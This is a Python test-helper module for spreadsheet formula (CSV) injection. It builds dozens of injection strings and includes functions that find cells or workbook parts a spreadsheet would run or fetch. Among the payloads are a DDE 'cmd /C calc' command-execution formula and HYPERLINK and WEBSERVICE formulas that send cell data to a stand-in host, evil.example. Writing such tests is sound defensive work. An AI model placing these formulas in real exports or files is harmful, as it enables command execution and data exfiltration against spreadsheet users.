"""Formulas that people write into names, and what of a file a spreadsheet would run."""

import csv
import io
import re
import zipfile
from itertools import product
from typing import Final
from xml.etree import ElementTree as ET

_BEGINNINGS: Final = (
    *("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "=+-@"),
    *(" =", "\u00a0=", "\ufeff=", "a;=", "a; @", "'=", '";='),
)
_ENDS: Final = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example/?"&A1,"ok")',
    'WEBSERVICE("https://evil.example/"&B2)',
)
FORMULAS: Final = tuple(map("".join, product(_BEGINNINGS, _ENDS)))
"""Sixty-four that our doors take."""
BROKEN_FORMULAS: Final = ("\t=1", "\r=1", "a\t=1", "a\n=1", "a\r\n@SUM(A1)", "a;\n+A1")
"""Those that they refuse: behind a break or a tab."""
# How people's spreadsheets split a line, by their country or their choice.
_SEPARATORS: Final = (",", ";", "\t")
_SIGNS: Final = tuple("=+-@\uff1d\uff0b\uff0d\uff20")
_UNSEEN: Final = "\u200b\u2060\ufeff"
_PART: Final = re.compile(
    r"xl/(worksheets/sheet\d+|styles|workbook)\.xml|(xl/_rels/workbook\.xml|_rels/)\.rels"
    r"|\[Content_Types\]\.xml"
)
_MAIN: Final = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def live_cells(content: str) -> list[str]:
    """The cells of a text file that would be run, whichever separator a spreadsheet goes by."""
    rows = [
        row
        for separator in _SEPARATORS
        for row in csv.reader(io.StringIO(content, newline=""), delimiter=separator)
    ]
    # And of a reader to whom quotes within a cell are letters, and a break ends the row.
    rows += [line.split(";") for line in content.replace("\r", "\n").split("\n")]
    return [cell for row in rows for cell in row if _is_live(cell)]


def _is_live(cell: str) -> bool:
    seen = cell.strip().lstrip(_UNSEEN).lstrip()
    return seen.startswith(_SIGNS) and not seen[1:].isdigit()


def live_parts(content: bytes) -> list[str]:
    """What of a workbook would be run or fetched: formulas, macros, links to elsewhere."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        for name in book.namelist():
            root = ET.fromstring(book.read(name))  # noqa: S314 - our own file
            found += [f"{name}: {node.tag}" for node in root.iter() if node.tag == f"{_MAIN}f"]
            found += [
                f"{name}: {node.get('Target')}"
                for node in root.iter()
                if node.get("TargetMode") == "External"
            ]
            if not _PART.fullmatch(name):
                found.append(name)
    return found


def texts_of(content: bytes) -> set[str]:
    """Every text of a workbook, as a spreadsheet shows it."""
    texts = set()
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                root = ET.fromstring(book.read(name))  # noqa: S314 - our own file
                texts |= {node.text or "" for node in root.iter(f"{_MAIN}t")}
    return texts
